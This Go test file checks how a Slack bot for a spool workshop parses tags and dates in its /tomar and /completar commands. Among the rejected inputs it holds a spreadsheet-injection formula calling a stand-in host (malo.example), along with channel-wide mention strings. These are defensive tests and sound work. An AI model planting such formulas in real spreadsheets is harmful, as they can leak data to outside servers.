//go:build !shop

package main

import (
	"slices"
	"strings"
	"testing"

	"github.com/spoolbot/spoolbot/bot/view"
)

// listed is a list of spools as people send one, and what comes of it.
type listed struct {
	name  string
	line  string
	words []string // of the answer
	taken []string // all else stays as it is
}

// What people type and paste in the place of a TAG.
func TestListsThatNameSpools(t *testing.T) {
	t.Parallel()
	pasted := func(before, after string, tags ...string) string {
		var out strings.Builder
		for _, tag := range tags {
			out.WriteString(before + tag + after)
		}
		return out.String()
	}
	three := tagsFrom(3, 6)
	for _, c := range []listed{
		{"a TAG", tag(3), []string{"tomado, es tuyo"}, tagsFrom(3, 4)},
		{"a part", "1303", []string{"tomado, es tuyo", tag(3)}, tagsFrom(3, 4)},
		{"in small letters", strings.ToLower(tag(3)), []string{"tomado"}, tagsFrom(3, 4)},
		{"with the dashes of a phone", strings.ReplaceAll(tag(3), "-", "–"), []string{"tomado"}, tagsFrom(3, 4)},
		{"with blanks for dashes", strings.ReplaceAll(tag(3), "-", " "), []string{"tomado"}, tagsFrom(3, 4)},
		{"in quotes", "“" + tag(3) + "” «" + tag(4) + "» '" + tag(5) + "'", []string{"Tomaste los 3"}, three},
		{"in Slack's own marks", "*" + tag(3) + "* `" + tag(4) + "` ~_" + tag(5) + "_~", []string{"Tomaste los 3"}, three},
		{"with emoji", "🔥" + tag(3) + "🔥 👷🏽‍♂️" + tag(4), []string{"Tomaste los 2"}, tagsFrom(3, 5)},
		{"one in each line", pasted("", "\n", three...), []string{"Tomaste los 3"}, three},
		{"lines with bullets", pasted("• ", "\r\n", three...), []string{"Tomaste los 3"}, three},
		{"with commas, semicolons, bars", tag(3) + "," + tag(4) + "; |" + tag(5) + "|", []string{"Tomaste los 3"}, three},
		{"a column of a sheet", pasted("\t", "\tARM\n", three...), []string{"Tomaste los 3", "ARM"}, three},
		{"an invisible character in it", "\u2066" + tag(3) + "\u2069\u200b", []string{"tomado"}, tagsFrom(3, 4)},
		{"one twice", tag(3) + " " + strings.ToLower(tag(3)) + " 1303 " + tag(4), []string{"Tomaste los 2"}, tagsFrom(3, 5)},
		{"fifty, one of them twice", strings.Join(append(tagsFrom(0, 50), tag(7)), " "), []string{"Tomaste los 50"}, tagsFrom(0, 50)},
		{"one known, one unknown", tag(3) + " NADA-99", []string{"Tomaste 1 de 2", "NADA-99", "no está"}, tagsFrom(3, 4)},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			inShop(t, shopOptions{book: sixty()}, func(s *shop) {
				answer := s.asks(s.mauricio, "/tomar "+c.line, c.words...)
				for _, tag := range c.taken {
					s.wantRow(tag, "MR(93)|ARM en progreso")
					if n := strings.Count(answer.Shown(), tag); n != 1 {
						t.Errorf("%s stands %d times in the answer:\n%s", tag, n, answer.Shown())
					}
				}
				s.ends(each("TOMAR", c.taken...)...)
			})
		})
	}
}

// What names no spool, or not one: the answer helps, and nothing changes.
func TestListsThatNameNone(t *testing.T) {
	t.Parallel()
	cases := []listed{
		{"nothing", "", []string{"Cuál quieres tomar", tag(0)}, nil},
		{"blanks", " \t  ", []string{"Cuál quieres tomar"}, nil},
		{"empty quotes", "“” '' «»", []string{"Cuál quieres tomar"}, nil},
		{"an emoji", "🔥", []string{"Cuál quieres tomar"}, nil},
		{"many emoji", strings.Repeat("👷🏽‍♂️", 200), []string{"Cuál quieres tomar"}, nil},
		{"an emoji's name", ":fire:", []string{"fire", "no está en la planilla"}, nil},
		{"unknown", "ZZZ-99999-XX", []string{"ZZZ-99999-XX", "no está en la planilla"}, nil},
		{"a letter O for a nought", "MK-13O3-CW-1OO3", []string{"no está en la planilla", "¿Es uno de estos?", tag(3)}, nil},
		{"ambiguous", "MK-13", []string{"calza con 60 spools", "parte más larga"}, nil},
		{"an ambiguous one and an unknown one", "MK-13 NADA-99", []string{"Falta aclarar"}, nil},
		{"one letter", "A", []string{"«A» no parece un TAG"}, nil},
		{"300 characters", strings.Repeat("A1", 150), []string{"no parece un TAG"}, nil},
		{"300 characters among good ones", tag(3) + " " + strings.Repeat("A1", 150) + " " + tag(4), []string{"no parece un TAG"}, nil},
		{"40,000 characters", strings.Repeat("A1", 20_000), []string{"no parece un TAG"}, nil},
		{"fifty-one", strings.Join(tagsFrom(0, 51), " "), []string{"son 51 spools y el máximo es 50", "No se cambió nada"}, nil},
		{"fifty-one lines", strings.Join(tagsFrom(0, 51), "\n"), []string{"son 51 spools"}, nil},
		{"a thousand unknown", strings.Repeat("X1 ", 30) + strings.Join(unknownTags(1000), " "), []string{"el máximo es 50"}, nil},
		{"only an operation", "SOLD", []string{"no hay spools libres"}, nil},
		{"everybody", "<!channel> @here @Carlos", []string{"no está en la planilla"}, nil},
		{"a person", "@Carlos", []string{"no está en la planilla"}, nil},
		{"a formula", `=IMPORTXML("http://malo.example/x","//ab")`, []string{"IMPORTXML", "no está"}, nil},
	}
	inShop(t, shopOptions{book: sixty()}, func(s *shop) {
		for _, c := range cases {
			answer := s.asks(s.mauricio, "/tomar "+c.line, c.words...)
			if len(answer.Buttons()) == 0 {
				t.Errorf("%s: an answer without a next step: %s", c.name, answer.Shown())
			}
			if all := raw(answer); strings.Contains(all, "<!") || strings.Contains(all, "<@") || strings.Contains(all, "<http") {
				t.Errorf("%s: the answer speaks to people: %s", c.name, all)
			}
		}
		s.ends()
	})
}

func unknownTags(n int) []string {
	var out []string
	for i := range n {
		out = append(out, "NO-"+tag(i))
	}
	return out
}

// From an ambiguous part to the spool by one tap; what was clear in the list is
// done at once.
func TestAnAmbiguousPartIsClearedByATap(t *testing.T) {
	t.Parallel()
	inShop(t, shopOptions{book: sixty()}, func(s *shop) {
		asked := s.asks(s.mauricio, "/tomar 130", "calza con 10 spools")
		s.taps(s.mauricio, asked, tag(4), tag(4), "tomado, es tuyo")

		before := s.mauricio.Last(s.taller).TS
		s.asks(s.mauricio, "/tomar 131 "+tag(30)+" "+tag(31), "Tomaste los 2")
		which := s.sees(s.mauricio, s.taller, before, "the question", "Falta aclarar 1 TAG", "«131»")
		s.taps(s.mauricio, which, tag(10), "tomado, es tuyo")
		s.ends(each("TOMAR", tag(4), tag(10), tag(30), tag(31))...)
	})
}

// Dates of COMPLETAR: it is 31-12-1999, nine in the evening.
func TestDatesThatAreRefused(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		"mañana":                      "No entiendo la fecha «mañana»",
		"el viernes":                  "No entiendo la fecha «el viernes»",
		"23 de noviembre":             "No entiendo la fecha «23 de noviembre»",
		"cuando pueda 🙏":              "No entiendo la fecha",
		"hoy ayer":                    "No entiendo la fecha",
		"12/31/1999":                  "No entiendo la fecha",
		"31-11-1999":                  "No entiendo la fecha",
		"29/2/99":                     "No entiendo la fecha",
		"30-dic":                      "No entiendo la fecha «30-dic»",
		"3O-12-1999":                  "No entiendo la fecha «3O-12-1999»",
		"30 12":                       "No entiendo la fecha «30 12»",
		"30 12 1999":                  "No entiendo la fecha «30 12 1999»",
		"=HOY()":                      "No entiendo la fecha",
		"<!date^0^{date}|ayer>":       "No entiendo la fecha",
		strings.Repeat("ayer ", 1000): "No entiendo la fecha",
		"01-01-2000":                  "La fecha todavía no llega",
		"1/1/00":                      "La fecha todavía no llega",
		"2000-01-01":                  "La fecha todavía no llega",
		"31-12-2999":                  "La fecha todavía no llega",
		"31-12-1998":                  "más de 30 días",
		"30-11-1999":                  "más de 30 días",
		"30-11":                       "más de 30 días",
		"1-1":                         "más de 30 días",
	}
	inShop(t, shopOptions{}, func(s *shop) {
		s.asks(s.mauricio, "/tomar "+tag(1), "tomado")
		for date, words := range cases {
			for _, line := range []string{"/completar " + date, "/completar " + tag(1) + " " + date} {
				answer := s.asks(s.mauricio, line, words)
				if !slices.Contains(answer.Buttons(), "Mis spools") {
					t.Errorf("%s: no way on: %v", date, answer.Buttons())
				}
			}
		}
		s.wantRow(tag(1), "MR(93)|ARM en progreso")
		s.ends("TOMAR:" + tag(1))
	})
}

// The date waits with the question which spool is meant.
func TestADateGoesAlongWithTheQuestion(t *testing.T) {
	t.Parallel()
	inShop(t, shopOptions{}, func(s *shop) {
		s.asks(s.mauricio, "/tomar "+tag(1)+" "+tag(2), "Tomaste los 2")
		if err := s.mauricio.Type(s.ctx, s.taller, "/completar ayer"); err != nil {
			t.Fatal(err)
		}
		s.until("the form asks which", func() bool { return s.mauricio.Top().CallbackID == view.CallbackComplete })
		if err := s.mauricio.Select(s.ctx, s.mauricio.Top(), view.ActionCompletePieces, tag(2)+" · ARM · NV0650"); err != nil {
			t.Fatal(err)
		}
		if _, err := s.mauricio.Submit(s.ctx); err != nil {
			t.Fatal(err)
		}
		s.until("it is completed", func() bool {
			return hasAll(s.mauricio.Last(s.mauricio.DM()).Shown(), []string{tag(2), "completado", "30-12"})
		})
		s.asks(s.mauricio, "/completar MK-13 ayer", tag(1), "completado", "30-12") // only one of them is his
		for _, tag := range tagsFrom(1, 3) {
			if got := rowsByTag(s.sheet)[tag]["FECHAARMADO"]; got != "30-12-1999" {
				t.Errorf("%s was completed on %s", tag, got)
			}
		}
		s.ends(slices.Concat(each("TOMAR", tagsFrom(1, 3)...), each("COMPLETAR", tagsFrom(1, 3)...))...)
	})
}

func TestDatesThatAreTaken(t *testing.T) {
	t.Parallel()
	cases := []struct{ date, says, cell string }{
		{"", "hoy", "31-12-1999"},
		{tag(1) + ",ayer", "30-12", "30-12-1999"}, // without a blank
		{tag(2) + "; 30-12", "30-12", "30-12-1999"},
		{"hoy", "hoy", "31-12-1999"},
		{"HOY", "hoy", "31-12-1999"},
		{"Ayer", "30-12", "30-12-1999"},
		{"29-12", "29-12", "29-12-1999"},
		{"28/12/99", "28-12", "28-12-1999"},
		{"27.12.1999", "27-12", "27-12-1999"},
		{"1999-12-26", "26-12", "26-12-1999"},
		{"25–12–1999", "25-12", "25-12-1999"},
		{"1-12-1999", "01-12", "01-12-1999"},
	}
	inShop(t, shopOptions{}, func(s *shop) {
		var changes []string
		for i, c := range cases {
			s.asks(s.mauricio, "/tomar "+tag(i), "tomado")
			s.asks(s.mauricio, "/completar "+c.date, tag(i), "completado", c.says)
			if got := rowsByTag(s.sheet)[tag(i)]; got["FECHAARMADO"] != c.cell || got["ARMADOR"] != "MR(93)" {
				t.Errorf("%q: the sheet says %s by %s", c.date, got["FECHAARMADO"], got["ARMADOR"])
			}
			changes = append(changes, "TOMAR:"+tag(i), "COMPLETAR:"+tag(i))
		}
		s.ends(changes...)
	})
}
